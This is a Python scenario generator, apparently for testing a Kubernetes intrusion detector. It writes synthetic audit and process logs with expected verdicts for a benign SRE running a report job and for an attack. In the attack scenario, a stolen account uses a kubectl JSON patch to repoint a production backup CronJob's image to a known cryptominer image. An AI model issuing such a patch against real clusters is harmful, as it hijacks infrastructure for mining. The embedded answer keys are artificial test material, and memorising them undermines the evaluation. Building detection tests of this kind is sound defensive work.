# --- 5. An SRE's routine on the bastion (Auditbeat): list jobs, run the nightly report by hand
# from its CronJob, watch it. Everything stays below medium. --------------------------------------
def ecs_sre_routine():
    d = scenario_dir("ecs-auditbeat-sre-routine")
    T = dt.datetime(2026, 3, 14, 8, 12, 3, 0, tzinfo=dt.timezone.utc)
    ns, cj = "reports", "nightly-report"
    a = Audit()
    a.noise(T - dt.timedelta(seconds=2), "worker-2", "10.0.1.12", 2)
    sre = {"username": "jane.doe@example.com", "groups": ["sre", "system:authenticated"]}
    bastion_ip = "10.20.1.4"
    c = container("report", "registry.example.com/reports/nightly:5.1.0", ["/app/nightly", "--since=24h"])
    cj_uid = uid("cj-" + cj)
    _, cj_obj = cronjob_objects(ns, cj, "0 1 * * *", c, T - dt.timedelta(days=40), cj_uid)
    a.request(T + dt.timedelta(milliseconds=700), "list", f"/apis/batch/v1/namespaces/{ns}/jobs?limit=500",
              sre, UA_KUBECTL, [bastion_ip],
              {"resource": "jobs", "namespace": ns, "apiGroup": "batch", "apiVersion": "v1"}, 200)
    T2 = T + dt.timedelta(seconds=21)
    a.request(T2 + dt.timedelta(milliseconds=500), "get", f"/apis/batch/v1/namespaces/{ns}/cronjobs/{cj}",
              sre, UA_KUBECTL, [bastion_ip],
              {"resource": "cronjobs", "namespace": ns, "name": cj, "apiGroup": "batch", "apiVersion": "v1"}, 200,
              "RequestResponse", None, cj_obj)
    job = "nightly-report-manual-0314"
    job_uid = uid("job-" + job)
    req, resp = job_objects(ns, cj, cj_uid, job, job_uid, c, T2 + dt.timedelta(seconds=1), manual=True)
    job_audit = a.request(T2 + dt.timedelta(milliseconds=1300), "create",
                          f"/apis/batch/v1/namespaces/{ns}/jobs?fieldManager=kubectl-create&fieldValidation=Strict",
                          sre, UA_KUBECTL, [bastion_ip],
                          {"resource": "jobs", "namespace": ns, "name": job, "apiGroup": "batch", "apiVersion": "v1"},
                          201, "RequestResponse", req, resp)
    t3 = T2 + dt.timedelta(seconds=2)
    pod = f"{job}-hz6kc"
    req, resp = pod_objects(ns, job, job_uid, pod, uid("pod-" + pod), c, t3)
    a.request(t3, "create", f"/api/v1/namespaces/{ns}/pods", controller("job-controller"),
              UA_KCM.format("job-controller"), [KCM_IP],
              {"resource": "pods", "namespace": ns, "name": pod, "apiVersion": "v1"}, 201,
              "RequestResponse", req, resp)
    a.request(T2 + dt.timedelta(seconds=9), "watch",
              f"/apis/batch/v1/namespaces/{ns}/jobs?fieldSelector=metadata.name%3D{job}&watch=true",
              sre, UA_KUBECTL, [bastion_ip],
              {"resource": "jobs", "namespace": ns, "apiGroup": "batch", "apiVersion": "v1"}, 200, latency_ms=60000)
    audit_lines = a.write(os.path.join(d, "audit.jsonl"))
    bash = ("/usr/bin/bash", ["-bash"])
    host = [
        ecs_doc("auditbeat", T, "bastion-01", "jane", ["kubectl", "get", "jobs", "-n", ns],
                "/usr/local/bin/kubectl", bash, cwd="/home/jane", pid=51001, ppid=50990),
        ecs_doc("auditbeat", T2, "bastion-01", "jane",
                ["kubectl", "create", "job", f"--from=cronjob/{cj}", job, "-n", ns],
                "/usr/local/bin/kubectl", bash, cwd="/home/jane", pid=51022, ppid=50990),
        ecs_doc("auditbeat", T2 + dt.timedelta(seconds=8), "bastion-01", "jane",
                ["kubectl", "get", "jobs", job, "-n", ns, "-w"],
                "/usr/local/bin/kubectl", bash, cwd="/home/jane", pid=51040, ppid=50990),
    ]
    write_lines(os.path.join(d, "process.ecs.jsonl"), [json.dumps(h, separators=(",", ":")) for h in host])
    expected(d, {
        "kind": "benign",
        "description": "an SRE on bastion-01 lists jobs, runs the nightly report by hand with create job --from=cronjob, and watches it (Auditbeat auditd process events, seconds precision, +01:00)",
        "inputs": ["audit.jsonl", "process.ecs.jsonl"],
        "max_severity": "low",
        "job_audit": job_audit,
        "audit_lines": len(audit_lines),
    })


# --- 6. A stolen bastion account repoints an existing CronJob's image with kubectl patch; the
# events come from Filebeat with flattened keys and a string category. ---------------------------
def ecs_filebeat_patch():
    d = scenario_dir("ecs-filebeat-patch-cronjob")
    T = dt.datetime(2026, 3, 15, 1, 58, 9, 904112, tzinfo=dt.timezone.utc)
    ns, cj = "prod", "db-backup"
    a = Audit()
    a.noise(T - dt.timedelta(seconds=1), "worker-1", "10.0.1.11", 2)
    user = {"username": "ops-svc", "groups": ["ops", "system:authenticated"]}
    c_old = container("backup", "registry.example.com/ops/pg-backup:14.2", ["/backup.sh"])
    c_new = container("backup", "docker.io/kinsing/kdevtmpfsi:latest", ["/backup.sh"])
    cj_uid = uid("cj-" + cj)
    _, old = cronjob_objects(ns, cj, "0 3 * * *", c_old, T - dt.timedelta(days=90), cj_uid)
    _, new = cronjob_objects(ns, cj, "0 3 * * *", c_new, T - dt.timedelta(days=90), cj_uid)
    new["metadata"]["generation"] = 2
    patch = [{"op": "replace", "path": "/spec/jobTemplate/spec/template/spec/containers/0/image",
              "value": "docker.io/kinsing/kdevtmpfsi:latest"}]
    a.request(T + dt.timedelta(milliseconds=300), "get", f"/apis/batch/v1/namespaces/{ns}/cronjobs/{cj}",
              user, UA_KUBECTL, ["10.20.1.4"],
              {"resource": "cronjobs", "namespace": ns, "name": cj, "apiGroup": "batch", "apiVersion": "v1"}, 200,
              "RequestResponse", None, old)
    patch_audit = a.request(T + dt.timedelta(seconds=4, milliseconds=20), "patch",
                            f"/apis/batch/v1/namespaces/{ns}/cronjobs/{cj}?fieldManager=kubectl-patch",
                            user, UA_KUBECTL, ["10.20.1.4"],
                            {"resource": "cronjobs", "namespace": ns, "name": cj, "apiGroup": "batch", "apiVersion": "v1"},
                            200, "RequestResponse", patch, new)
    audit_lines = a.write(os.path.join(d, "audit.jsonl"))
    sh = ("/bin/bash", ["bash"])
    host = [
        ecs_doc("filebeat", T - dt.timedelta(seconds=30), "bastion-02", "ops-svc",
                ["kubectl", "get", "cronjobs", "-n", ns], "/usr/bin/kubectl", sh, pid=900, ppid=880),
        ecs_doc("filebeat", T, "bastion-02", "ops-svc",
                ["kubectl", "patch", "cronjob", cj, "-n", ns, "--type=json", "-p",
                 json.dumps(patch, separators=(",", ":"))],
                "/usr/bin/kubectl", sh, pid=905, ppid=880),
    ]
    write_lines(os.path.join(d, "process.ecs.jsonl"), [json.dumps(h, separators=(",", ":")) for h in host])
    expected(d, {
        "kind": "attack",
        "description": "ops-svc on bastion-02 lists CronJobs, then swaps db-backup's image for a cryptominer with a JSON patch (Filebeat, flattened keys, string event.category)",
        "inputs": ["audit.jsonl", "process.ecs.jsonl"],
        "must_cite": [{"evidence": "process.ecs.jsonl:2", "min_severity": "medium"}],
        "incident": {
            "min_severity": "medium",
            "evidence": ["process.ecs.jsonl:2", f"audit.jsonl:{line_of(audit_lines, patch_audit)}"],
            "not_evidence": ["process.ecs.jsonl:1"],
            "audit_ids": [patch_audit],
        },
    })


if __name__ == "__main__":
    pod_sa_cronjob()
    ci_runner_job()
    curl_bearer()
    ecs_webshell()
    ecs_sre_routine()
    ecs_filebeat_patch()
